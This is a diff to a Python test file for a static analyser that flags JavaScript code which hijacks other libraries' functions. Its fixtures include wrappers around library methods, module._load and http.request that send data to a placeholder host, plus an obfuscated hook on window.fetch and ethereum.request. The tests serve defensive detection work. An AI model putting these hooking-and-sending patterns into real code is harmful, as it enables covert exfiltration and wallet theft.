@@ -3,7 +3,7 @@
 import pytest
 
 from pratique.analysis.facts import Capability
-from tests.analysis.languages.javascript.reading import apis
+from tests.analysis.languages.javascript.reading import apis, facts
 
 
 def hooks(source: str) -> set[str]:
@@ -47,3 +47,61 @@ def test_replaced_functions_are_named(source: str, expected: str) -> None:
 )
 def test_a_platform_that_is_given_what_it_lacks_is_not_hooked(source: str) -> None:
     assert set() == hooks(source)
+
+
+TOLD = "const lib = require('lib'); const old = lib.run; lib.run = function (a) { fetch('https://a.invalid', {body: a}); return old(a) };"
+
+
+def told(source: str) -> list[tuple[str | None, bool]]:
+    return [(use.argument, use.at_load) for use in facts(source).uses if use.api == "hook:told"]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        TOLD,
+        TOLD.replace("lib.run", "lib.Client.prototype.run"),
+        TOLD.replace("{ fetch", "{ [1].map(() => fetch").replace("; return", "); return"),
+        (
+            "const M = require('module'); const old = M._load; M._load = function () { const m = old.apply(this, arguments);"
+            " m.run = () => fetch('https://a.invalid'); return m };"
+        ),
+        (
+            "[require('http'), require('https')].forEach(lib => { const old = lib.request; lib.request = function (a) {"
+            " old.call(lib, {hostname: 'a.invalid', path: '/'}); return old(a) } })"
+        ),
+    ],
+    ids=["a function", "a method", "deeper", "what it gives", "one of two"],
+)
+def test_a_function_of_others_that_is_replaced_by_one_that_sends_is_told(source: str) -> None:
+    assert [("https://a.invalid", True)] == [(host.rstrip("/"), load) for host, load in told(source) if host]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        TOLD.replace("const old = lib.run;", "const old = f;"),
+        TOLD.replace("'https://a.invalid'", "options.url"),
+        TOLD.replace("const lib = require('lib')", "const lib = {run: f}"),
+        TOLD.replace("const lib = require('lib')", "class lib {}"),
+        TOLD.replace("const lib = require('lib'); ", "").replace("lib", "exports"),
+    ],
+    ids=[
+        "nothing kept",
+        "an address of its user",
+        "an object of its own",
+        "a class of its own",
+        "its exports",
+    ],
+)
+def test_no_other_is(source: str) -> None:
+    assert [] == told(source)
+
+
+def test_names_that_an_obfuscator_keeps_in_an_array_are_read() -> None:
+    source = (
+        "const t = ['fetch', 'ethereum', 'request'];\nfunction n(i) { return t[i - 7]; }\n"
+        "const old = window[n(7)]; window[n(7)] = function () { return old.apply(this, arguments) };\n"
+        "window[n(8)][n(9)] = function (a) { return 1 };"
+    )
+    assert {"hook:fetch", "hook:ethereum.request"} == hooks(source)
